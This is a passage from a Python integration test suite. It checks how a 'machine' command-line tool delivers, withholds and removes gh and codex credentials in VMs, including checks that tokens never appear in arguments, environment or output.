            if any(n.startswith("machine-cred-codex-") for n in logins_after_first):
                problems.append("codex was rendered although agent_auth does not allow it")
            if "credentials: gh delivered" not in said:
                problems.append("the first attach did not say 'credentials: gh delivered'")
            if c.agent.renders != renders_after_first:
                problems.append("the second attach rendered again (%d renders)" % c.agent.renders)
            if seen:
                problems.append("the token was in the argv or environment of %s" % sorted(seen))
            printed = "\n".join(first.lines() + second.lines())
            if gh in printed or codex in printed:
                problems.append("a token was printed")
            # A login whose source fails: an attach that finds its set in the VM reads nothing; one
            # that finds it missing (after a boot) says so, and attaches all the same.
            c.world.write_projects('[%s]\nagent_auth = ["gh", "claude", "codex"]\n' % vm)
            token_file = os.path.join(c.tmp, "codex-token")
            with open(token_file, "w") as f:
                f.write(codex + "\n")
            r = subprocess.run([self.args.machine, "login", "codex", "--from-command", "--", "cat", token_file],
                               env=c.world.env, capture_output=True, text=True, timeout=60)
            delivered = c.machine("run", vm, "--", "true").wait(END_LIMIT_S)
            os.unlink(token_file)
            unchanged = c.machine("run", vm, "--", "true").wait(END_LIMIT_S)
            with c.agent.lock:
                for n in [n for n in c.agent.sets if n.startswith("machine-cred-codex-")]:
                    del c.agent.sets[n]
            missing = c.machine("run", vm, "--", "true").wait(END_LIMIT_S)
            said = "\n".join(missing.lines())
            if r.returncode != 0 or "credentials: codex delivered" not in "\n".join(delivered.lines()):
                problems.append("the codex login from a command was not delivered: %s %s"
                                % (r.stderr[-200:], "\n".join(delivered.lines())[-200:]))
            if unchanged.rc != 0 or "warning" in "\n".join(unchanged.lines()):
                problems.append("an attach with the set in place read the failing source: %s"
                                % "\n".join(unchanged.lines())[-300:])
            if missing.rc != 0 or "credentials: codex: " not in said or "the VM has no codex credential" not in said:
                problems.append("a failing source at an attach: exit %s, said %r" % (missing.rc, said[-400:]))
            out = c.machine("logout", "gh").wait(END_LIMIT_S)
            if out.rc != 0 or "removed from the running VMs: %s" % vm not in "\n".join(out.lines()):
                problems.append("logout: exit %s: %s" % (out.rc, "\n".join(out.lines())[-300:]))
            if any(n.startswith("machine-cred-gh-") for n in c.agent.logins()):
                problems.append("after logout the VM still has %s" % sorted(c.agent.logins()))
            self.report.check(name, not problems, "; ".join(problems))
        finally:
            c.close()


def main():
    common.enter_namespace()
    args = common.arguments(__doc__)
    if not os.access(args.machine, os.X_OK):
        sys.exit("no machine binary at %s (--machine)" % args.machine)
    suite = Suite(args)
    checks = [(n, getattr(suite, n)) for n in sorted(dir(suite)) if n.startswith("check_")]
    if args.only:
        checks = [(n, f) for n, f in checks if any(o in n for o in args.only)]
    # The floods first, on their own, then the `up`s: the other checks need their agent to answer
    # within machine's deadlines, which 2 cores busy with floods or several `up`s cannot promise
    # (CI saw secrets.discover time out after 20 s while three `up`s ran beside it).
    floods = [c for c in checks if c[0].startswith("check_flood")]
    ups = [c for c in checks if c[0].startswith("check_up_")]
    rest = [c for c in checks if c not in floods and c not in ups]
    common.run_suite(floods, suite.report, args.machine, ups, rest)


if __name__ == "__main__":
    main()
